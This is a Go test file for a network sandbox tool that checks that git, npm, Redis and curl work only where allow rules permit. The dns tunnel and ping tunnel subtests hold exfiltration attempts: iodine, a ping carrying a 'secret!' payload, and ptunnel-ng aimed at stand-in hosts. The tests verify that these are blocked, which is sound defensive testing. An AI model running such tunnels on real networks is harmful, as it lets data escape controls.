//go:build vm

package vmtest

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

// clientServers are the servers for real clients in the guest.
type clientServers struct {
	https, ssh, redis, hang int // ports
	cert                    []byte
	gotHTTPS, gotSSH, gotDB atomic.Int64
}

// certificate is a self-signed one for a name.
func certificate(t *testing.T, name string) (tls.Certificate, []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	c := &x509.Certificate{
		SerialNumber: big.NewInt(1), DNSNames: []string{name}, IsCA: true, BasicConstraintsValid: true,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
	}
	der, err := x509.CreateCertificate(rand.Reader, c, c, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}

// startClientServers serves a bare repository in dir, and a small database.
func startClientServers(t *testing.T, dir string) *clientServers {
	t.Helper()
	s := &clientServers{}
	cert, text := certificate(t, "good.test")
	s.cert = text
	l, port := listen(t, serverAddr+":0")
	s.https = port
	exe, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Fatal(err)
	}
	h := &cgi.Handler{
		Path: filepath.Join(strings.TrimSpace(string(exe)), "git-http-backend"), Root: "/",
		Env: []string{"GIT_PROJECT_ROOT=" + dir, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_COUNT=2",
			"GIT_CONFIG_KEY_0=http.receivepack", "GIT_CONFIG_VALUE_0=true", "GIT_CONFIG_KEY_1=safe.directory", "GIT_CONFIG_VALUE_1=*"},
		Stderr: io.Discard,
	}
	web := &http.Server{
		Handler:   http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { s.gotHTTPS.Add(1); h.ServeHTTP(w, r) }),
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}, ReadHeaderTimeout: time.Minute,
	}
	go func(l net.Listener) { _ = web.ServeTLS(l, "", "") }(l)
	t.Cleanup(func() { web.Close() })

	l, s.ssh = listen(t, serverAddr+":0")
	go serveGitSSH(t, l, dir, &s.gotSSH)
	l, s.redis = listen(t, serverAddr+":0")
	go serveRedis(l, &s.gotDB)
	_, s.hang = listen(t, serverAddr+":0") // the kernel accepts, nobody answers
	return s
}

// serveGitSSH serves git by SSH, without authentication.
func serveGitSSH(t *testing.T, l net.Listener, dir string, count *atomic.Int64) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Error(err)
		return
	}
	signer, err := ssh.NewSignerFromKey(key)
	if err != nil {
		t.Error(err)
		return
	}
	conf := &ssh.ServerConfig{NoClientAuth: true}
	conf.AddHostKey(signer)
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		count.Add(1)
		go func() {
			defer c.Close()
			_, channels, requests, err := ssh.NewServerConn(c, conf)
			if err != nil {
				return
			}
			go ssh.DiscardRequests(requests)
			for n := range channels {
				ch, in, err := n.Accept()
				if err != nil {
					return
				}
				go runGit(ch, in, dir)
			}
		}()
	}
}

func runGit(ch ssh.Channel, in <-chan *ssh.Request, dir string) {
	defer ch.Close()
	for r := range in {
		var p struct{ Command string }
		if r.Type != "exec" || ssh.Unmarshal(r.Payload, &p) != nil {
			_ = r.Reply(r.Type == "env", nil)
			continue
		}
		_ = r.Reply(true, nil)
		verb, path, _ := strings.Cut(p.Command, " ")
		c := exec.Command("git", "-c", "safe.directory=*", strings.TrimPrefix(verb, "git-"), filepath.Join(dir, filepath.Base(strings.Trim(path, "'"))))
		c.Stdin, c.Stdout, c.Stderr = ch, ch, ch.Stderr()
		status := struct{ Code uint32 }{}
		if err := c.Run(); err != nil {
			status.Code = 1
		}
		_, _ = ch.SendRequest("exit-status", false, ssh.Marshal(status))
		return
	}
}

// serveRedis speaks enough of RESP for redis-cli's SET and GET.
func serveRedis(l net.Listener, count *atomic.Int64) {
	var mu sync.Mutex
	data := map[string]string{}
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		count.Add(1)
		go func() {
			defer c.Close()
			r := bufio.NewReader(c)
			for {
				args, err := readRESP(r)
				if err != nil {
					return
				}
				mu.Lock()
				switch {
				case len(args) == 3 && strings.EqualFold(args[0], "set"):
					data[args[1]] = args[2]
					fmt.Fprint(c, "+OK\r\n")
				case len(args) == 2 && strings.EqualFold(args[0], "get"):
					fmt.Fprintf(c, "$%d\r\n%s\r\n", len(data[args[1]]), data[args[1]])
				default:
					fmt.Fprint(c, "*0\r\n")
				}
				mu.Unlock()
			}
		}()
	}
}

func readRESP(r *bufio.Reader) ([]string, error) {
	number := func(kind byte) (int, error) {
		line, err := r.ReadString('\n')
		if err != nil || line[0] != kind {
			return 0, fmt.Errorf("%q: %w", line, err)
		}
		return strconv.Atoi(strings.TrimSpace(line[1:]))
	}
	n, err := number('*')
	var args []string
	for range n {
		size, err := number('$')
		if err != nil {
			return nil, err
		}
		b := make([]byte, size+2)
		if _, err := io.ReadFull(r, b); err != nil {
			return nil, err
		}
		args = append(args, string(b[:size]))
	}
	return args, err
}

// clientTest is a sandbox with real programs, and the servers that they talk to.
type clientTest struct {
	*clientServers
	dir   string
	repos string // of git, on the host
}

// TestClients: real programs work where a rule lets them, and nowhere else.
func TestClients(t *testing.T) {
	repos := t.TempDir()
	if out, err := exec.Command("git", "init", "-q", "--bare", "-b", "main", filepath.Join(repos, "repo.git")).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	s := startClientServers(t, repos)
	dir := project(t, "clients")
	writeFile(t, filepath.Join(dir, "cert.pem"), string(s.cert))
	st := startStreamServers(t)
	ports := fmt.Sprintf(":%d,%d,%d,%d,%d,%d,%d", s.https, s.ssh, s.redis, s.hang, st.secure, st.plain, st.counting)
	must(t, dir, "run", "--memory", "2G", "--allow", "preset:debian", "--allow", "preset:npm", "--allow", "good.test"+ports, "--allow", serverAddr+ports, // which is of the loopback
		"--allow", "nowhere.test", "--allow", "**.tunnel.test",
		"--add-host", "good.test:"+serverAddr, "--add-host", "other.test:"+serverAddr, "--", "sh", "-euc", `
sudo apt-get update -qq && sudo DEBIAN_FRONTEND=noninteractive apt-get install -y -qq redis-tools iodine ptunnel-ng iputils-ping hello >/dev/null
git config --global user.name x && git config --global user.email x@y && git config --global init.defaultBranch main`)
	c := &clientTest{s, dir, repos}

	t.Run("registries", c.registries)
	t.Run("streams", func(t *testing.T) { streams(t, dir, st) })
	t.Run("git https", c.gitHTTPS)
	t.Run("git ssh", c.gitSSH)
	t.Run("database", c.database)
	t.Run("dns tunnel", c.dnsTunnel)
	t.Run("ping tunnel", c.pingTunnel)
	t.Run("faults", c.faults)
	t.Run("ask", func(t *testing.T) { askOnce(t, dir, s) })
}

// registries installs packages through presets.
func (c *clientTest) registries(t *testing.T) {
	got := must(t, c.dir, "run", "--", "sh", "-euc", `
hello && mkdir npm && cd npm && npm install --no-audit --no-fund is-odd ws @grpc/grpc-js >&2 && node -e 'console.log(require("is-odd")(3))'
! curl -sS -m 30 https://example.com`)
	if !strings.Contains(got, "Hello, world!\ntrue\n") {
		t.Errorf("%q", got)
	}
}

// gitHTTPS clones and pushes by HTTPS.
func (c *clientTest) gitHTTPS(t *testing.T) {
	must(t, c.dir, "run", "--", "sh", "-euc", fmt.Sprintf(`
export GIT_SSL_CAINFO=$PWD/cert.pem; u=https://good.test:%d/repo.git
git clone -q $u https; cd https; echo one > a; git add a; git commit -qm one; git push -q $u HEAD:main`, c.https))
	got := c.gotHTTPS.Load()
	r := bawn(t, c.dir, "run", "--", "sh", "-c", fmt.Sprintf("GIT_SSL_NO_VERIFY=1 git clone -q https://other.test:%d/repo.git no", c.https))
	if r.code == 0 || c.gotHTTPS.Load() != got {
		t.Errorf("by another name: %+v, %d requests", r, c.gotHTTPS.Load()-got)
	}
}

// gitSSH clones and pushes by SSH.
func (c *clientTest) gitSSH(t *testing.T) {
	const with = `export GIT_SSH_COMMAND="ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"; `
	must(t, c.dir, "run", "--", "sh", "-euc", fmt.Sprintf(with+`u=ssh://git@good.test:%d/repo.git
git clone -q $u ssh; cd ssh; test "$(cat a)" = one; echo two > b; git add b; git commit -qm two; git push -q $u HEAD:main`, c.ssh))
	out, err := exec.Command("git", "-C", filepath.Join(c.repos, "repo.git"), "log", "--format=%s", "main").Output()
	if err != nil || string(out) != "two\none\n" {
		t.Errorf("the repository has %q, %v", out, err)
	}
	got := c.gotSSH.Load()
	r := bawn(t, c.dir, "run", "--", "sh", "-c", fmt.Sprintf(with+"git clone -q ssh://git@other.test:%d/repo.git no", c.ssh))
	if r.code == 0 || c.gotSSH.Load() != got {
		t.Errorf("by another name: %+v, %d connections", r, c.gotSSH.Load()-got)
	}
}

// database talks to a database, which speaks a protocol of its own.
func (c *clientTest) database(t *testing.T) {
	out := must(t, c.dir, "run", "--", "sh", "-euc", fmt.Sprintf("redis-cli -h good.test -p %d set k v; redis-cli -h good.test -p %d get k", c.redis, c.redis))
	if strings.Join(strings.Fields(out), " ") != "OK v" {
		t.Errorf("%q", out)
	}
	got := c.gotDB.Load()
	r := bawn(t, c.dir, "run", "--", "redis-cli", "-h", "good.test", "-p", strconv.Itoa(c.redis+1), "get", "k")
	if r.code == 0 || !strings.Contains(r.err+r.out, "refused") || c.gotDB.Load() != got {
		t.Errorf("at another port: %+v", r)
	}
}

// dnsTunnel tries to get data out by DNS: a real tunnel does not come up.
func (c *clientTest) dnsTunnel(t *testing.T) {
	var got atomic.Int64
	if pc, err := net.ListenPacket("udp", serverAddr+":53"); err == nil { // root's runs
		defer pc.Close()
		go func() {
			for b := make([]byte, 2048); ; got.Add(1) {
				if _, _, err := pc.ReadFrom(b); err != nil {
					return
				}
			}
		}()
	}
	must(t, c.dir, "run", "--user", "root", "--", "sh", "-c", "mkdir -p /dev/net; [ -e /dev/net/tun ] || mknod /dev/net/tun c 10 200")
	var all sync.WaitGroup // each waits most of the time
	for _, server := range []string{"", serverAddr, "100.127.255.1"} {
		all.Go(func() {
			r := bawnAt(t.Context(), c.dir, nil, nil, "run", "--user", "root", "--", "sh", "-c", "timeout 60 iodine -f -P x "+server+" tunnel.test 2>&1")
			if r.code == 0 || strings.Contains(r.out, "Connection setup complete") {
				t.Errorf("iodine %s: %+v", server, r)
			}
			if !strings.Contains(r.out, "tunnel.test") && !strings.Contains(r.out, "DNS") { // it got as far as asking
				t.Errorf("iodine %s says %q", server, r.out)
			}
		})
	}
	all.Wait()
	if got.Load() != 0 {
		t.Errorf("%d packets arrived at the tunnel's server", got.Load())
	}
}

// pingTunnel tries to get data out by ping: by hand, and by a real tunnel.
func (c *clientTest) pingTunnel(t *testing.T) {
	r := bawn(t, c.dir, "run", "--user", "root", "--", "ping", "-c", "3", "-i", "0.2", "-W", "5", "-p", "73656372657421", "-s", "1000", "192.0.2.99")
	if r.code == 0 || !strings.Contains(r.out, "0 received") {
		t.Errorf("%+v", r)
	}
	// A real tunnel: its far end would be told where to connect.
	r = bawn(t, c.dir, "run", "--user", "root", "--", "sh", "-c", `ptunnel-ng -p192.0.2.98 -l8000 -r127.0.0.1 -R22 >/dev/null 2>&1 & p=$!
until ss -Hltn 'sport = :8000' | grep -q .; do kill -0 $p || exit 9; sleep 0.2; done
echo hello | curl -s -m 5 telnet://127.0.0.1:8000; echo "tunnel $?"; kill $p`)
	if r.code != 0 || !strings.HasPrefix(r.out, "tunnel ") || strings.HasPrefix(r.out, "tunnel 0") {
		t.Errorf("%+v", r)
	}
	log := must(t, c.dir, "net", "log", "--denied")
	for _, addr := range []string{"192.0.2.99", "192.0.2.98"} {
		if !strings.Contains(log, addr+" ping beyond the gateway") {
			t.Errorf("the pings to %s are not in the log: %s", addr, log)
		}
	}
}

// faults meets a server that does not answer, and a name that does not resolve.
func (c *clientTest) faults(t *testing.T) {
	out := must(t, c.dir, "run", "--", "sh", "-c", fmt.Sprintf(`
curl -sk -m 10 https://good.test:%d/; echo "hang $?"
curl -s -m 60 https://nowhere.test/; echo "nowhere $?"
GIT_SSL_CAINFO=$PWD/cert.pem git ls-remote -q https://good.test:%d/repo.git | wc -l`, c.hang, c.https))
	if !strings.Contains(out, "hang 28") || strings.Contains(out, "nowhere 28") || strings.Contains(out, "nowhere 0") || !strings.HasSuffix(out, "2\n") {
		t.Errorf("%q", out)
	}
	if log := must(t, c.dir, "net", "log"); !strings.Contains(log, "nowhere.test") {
		t.Errorf("a name that the host cannot resolve is not in the log: %s", log)
	}
}

// askOnce answers `bawn net ask` under a terminal of script(1): what was denied is allowed
// until the sandbox stops.
func askOnce(t *testing.T, dir string, s *clientServers) {
	script, err := exec.LookPath("script")
	if err != nil {
		t.Skip("no script(1) on this host")
	}
	try := func() result {
		return bawn(t, dir, "run", "--", "redis-cli", "-h", "other.test", "-p", strconv.Itoa(s.redis), "get", "k")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	c := exec.CommandContext(ctx, script, "-qec", os.Getenv("BAWN")+" net ask", "/dev/null")
	c.Dir, c.Env = dir, environment()
	in, err := c.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := c.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = c.Process.Kill(); _ = c.Wait() }()
	told := bufio.NewReader(out)
	await := func(what string) {
		t.Helper()
		var seen strings.Builder
		for !strings.Contains(seen.String(), what) {
			b, err := told.ReadByte()
			if err != nil {
				t.Fatalf("net ask ended after %q: %v", seen.String(), err)
			}
			seen.WriteByte(b)
		}
	}
	await("Waiting for denials")
	if r := try(); r.code == 0 {
		t.Fatalf("before: %+v", r)
	}
	await("other.test")
	go func() { // first the name is missing, then its port
		for line := ""; ; {
			b, err := told.ReadByte()
			if err != nil {
				return
			}
			if line += string(b); strings.HasSuffix(line, "[N]o: ") {
				fmt.Fprintln(in, "once")
				line = ""
			}
		}
	}()
	wait(t, "the rule", func() bool { r := try(); return r.code == 0 })
	must(t, dir, "stop")
	if r := try(); r.code == 0 {
		t.Errorf("after a stop: %+v", r)
	}
}
